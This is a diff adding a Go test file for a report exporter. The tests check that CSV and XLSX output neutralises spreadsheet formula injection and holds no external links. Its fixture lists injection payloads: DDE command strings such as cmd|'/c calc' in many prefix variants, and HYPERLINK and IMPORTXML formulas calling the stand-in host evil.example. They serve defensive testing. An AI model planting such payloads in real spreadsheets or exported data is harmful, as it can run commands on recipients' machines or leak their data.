@@ -1,0 +1,250 @@
+package report_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/csv"
+	"encoding/xml"
+	"fmt"
+	"io"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+
+	"remit/model"
+	"remit/report"
+)
+
+// formulas are texts that some spreadsheet runs, or once ran.
+func formulas() []string {
+	var all []string
+	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
+		for _, before := range []string{"", " ", "\t", "\r", "\n", `"`, "'", "x;", "x,", "x;\"", "\u00a0", "; "} {
+			all = append(all, before+sign+`cmd|'/c calc'!A1`)
+		}
+	}
+	return append(all, `=HYPERLINK("http://evil.example","click")`, `=1+1`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
+		`=IMPORTXML("http://evil.example","//a")`, "\u200b=1+1", "\ufeff=1+1", "=\u202e1+1")
+}
+
+// infested puts a text into every place of a report where somebody else's text can be.
+func infested(r report.Report, text string) report.Report {
+	book := *r.Book
+	book.Roles = slices.Clone(book.Roles)
+	for i := range book.Roles {
+		book.Roles[i].Short, book.Roles[i].Title = text, text
+	}
+	book.Activities = slices.Clone(book.Activities)
+	for i := range book.Activities {
+		book.Activities[i].Title, book.Activities[i].Group = text, text
+	}
+	r.Book = &book
+	f := *r.Framework
+	f.Questions = slices.Clone(f.Questions)
+	for i := range f.Questions {
+		f.Questions[i].Short = text
+	}
+	r.Framework = &f
+	follows := *r.Follows
+	follows.Matrix.Rows = slices.Clone(follows.Matrix.Rows)
+	for i := range follows.Matrix.Rows {
+		follows.Matrix.Rows[i].Because = text
+	}
+	follows.Practices = slices.Clone(follows.Practices)
+	for i := range follows.Practices {
+		follows.Practices[i].Title, follows.Practices[i].Do = text, text
+	}
+	follows.Costs = slices.Clone(follows.Costs)
+	for i := range follows.Costs {
+		follows.Costs[i].Note, follows.Costs[i].Currency = text, text
+	}
+	r.Follows = &follows
+	r.Session = &model.Session{Name: text, Client: text, Notes: map[string]string{"headcount": text}}
+	return r
+}
+
+// live reports whether a spreadsheet could begin to read a formula anywhere in a cell.
+func live(cell string) bool {
+	for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
+		part = strings.TrimLeft(part, " \"\u00a0")
+		if part != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(part)[0]) {
+			return true
+		}
+	}
+	return false
+}
+
+func TestNoTextOfACSVIsAFormula(t *testing.T) {
+	whole := whole(t, insurer())
+	for _, text := range formulas() {
+		r := infested(whole, text)
+		var b bytes.Buffer
+		if err := report.RACICSV(&b, r); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) != len(r.Follows.Matrix.Rows)+1 {
+			t.Errorf("%q: %d rows, want %d", text, len(rows), len(r.Follows.Matrix.Rows)+1)
+		}
+		for _, row := range rows {
+			for _, cell := range row {
+				if live(cell) {
+					t.Fatalf("%q comes out as %q, which a spreadsheet runs", text, cell)
+				}
+			}
+		}
+	}
+}
+
+// The workbook is read back by a program that knows the format better than its writer.
+func TestAWorkbookHoldsOnlyTextsAndNumbers(t *testing.T) {
+	whole := whole(t, insurer())
+	for _, text := range append(formulas(), "_x0041_", "a_x005F_b_X000d_", "ctrl\x01\x0b\x1b[31m", "<b>&amp;\"'", "𝄞 שלום") {
+		var b bytes.Buffer
+		if err := report.XLSX(&b, infested(whole, text)); err != nil {
+			t.Fatal(err)
+		}
+		book, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
+		if err != nil {
+			t.Fatalf("%q: %v", text, err)
+		}
+		found := false
+		for _, sheet := range book.GetSheetList() {
+			rows, err := book.GetRows(sheet)
+			if err != nil {
+				t.Fatalf("%q, sheet %s: %v", text, sheet, err)
+			}
+			for n, row := range rows {
+				for i, got := range row {
+					at, _ := excelize.CoordinatesToCellName(i+1, n+1)
+					if formula, err := book.GetCellFormula(sheet, at); err != nil || formula != "" {
+						t.Fatalf("%q: the cell %s of %s is the formula %q, %v", text, at, sheet, formula, err)
+					}
+					found = found || got == model.Clean(text)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("%q is in no cell as it was given", text)
+		}
+	}
+}
+
+func TestAWorkbookHasNothingBesideItsSheets(t *testing.T) {
+	var b bytes.Buffer
+	if err := report.XLSX(&b, whole(t, insurer())); err != nil {
+		t.Fatal(err)
+	}
+	known := strings.Fields("worksheet sheetViews sheetView pane cols col sheetData row c v is t")
+	for name, text := range unpacked(t, b.Bytes()) {
+		switch name {
+		case "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml":
+			if strings.Contains(text, `TargetMode="External"`) {
+				t.Errorf("%s leads out of the workbook", name)
+			}
+			continue
+		}
+		if !strings.HasPrefix(name, "xl/worksheets/sheet") {
+			t.Errorf("the workbook has a part %s", name)
+		}
+		for _, tag := range tagsOf(t, text) {
+			if !slices.Contains(known, tag) {
+				t.Errorf("%s has an element %s", name, tag)
+			}
+		}
+	}
+	book, err := excelize.OpenReader(&b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"Advice", "Ranking", "Reasons", "Answers", "RACI", "Plan", "Costs", "Sources"}; !slices.Equal(book.GetSheetList(), want) {
+		t.Errorf("sheets %q, want %q", book.GetSheetList(), want)
+	}
+	for _, sheet := range book.GetSheetList() {
+		panes, err := book.GetPanes(sheet)
+		if err != nil || !panes.Freeze || panes.YSplit != 1 {
+			t.Errorf("%s: the heading is not fixed: %+v, %v", sheet, panes, err)
+		}
+	}
+	if kind, err := book.GetCellType("Ranking", "B2"); err != nil || kind == excelize.CellTypeInlineString || kind == excelize.CellTypeSharedString {
+		t.Errorf("points are no number: %v, %v", kind, err)
+	}
+}
+
+func TestALongTextIsCutWithANote(t *testing.T) {
+	var b bytes.Buffer
+	if err := report.XLSX(&b, infested(whole(t, insurer()), strings.Repeat("ä𝄞", 20_000))); err != nil {
+		t.Fatal(err)
+	}
+	book, err := excelize.OpenReader(&b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := book.GetCellValue("RACI", "B2")
+	if err != nil || !strings.Contains(got, "cut here: the whole text has 40000 characters") || strings.Contains(got, "\uFFFD") {
+		t.Errorf("a long text ends with %q, %v", got[max(0, len(got)-120):], err)
+	}
+}
+
+// unpacked gives the parts of a workbook.
+func unpacked(t testing.TB, book []byte) map[string]string {
+	t.Helper()
+	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	parts := map[string]string{}
+	for _, f := range z.File {
+		if got := f.Modified.Year(); got != 1980 {
+			t.Errorf("%s is dated %d", f.Name, got)
+		}
+		r, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		text, err := io.ReadAll(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		parts[f.Name] = string(text)
+	}
+	return parts
+}
+
+// tagsOf gives the names of the elements of a part, each once.
+func tagsOf(t testing.TB, text string) []string {
+	t.Helper()
+	var names []string
+	for dec := xml.NewDecoder(strings.NewReader(text)); ; {
+		token, err := dec.Token()
+		if err == io.EOF {
+			return names
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		if start, ok := token.(xml.StartElement); ok && !slices.Contains(names, start.Name.Local) {
+			names = append(names, start.Name.Local)
+		}
+	}
+}
+
+func ExampleRACICSV() {
+	r := report.Report{
+		Book: &model.Playbook{Roles: []model.Role{{ID: "ceo", Short: "=CEO"}}, Activities: []model.Activity{{ID: "a", Title: "-1 day", Group: "People"}}},
+		Follows: &model.Deliverables{Posts: []model.Post{{Role: "ceo"}}, Matrix: model.Matrix{Columns: []string{"ceo"}, Rows: []model.MatrixRow{
+			{Activity: "a", Cells: []model.Cell{{Letter: model.LetterAR}}, Because: "Somebody must."}}}},
+	}
+	var b bytes.Buffer
+	fmt.Println(report.RACICSV(&b, r))
+	fmt.Print(b.String())
+	// Output:
+	// <nil>
+	// Area,Activity,'=CEO,Answers for it,Why,Depends on,Sources
+	// People,'-1 day,A/R,'=CEO,Somebody must.,,
+}
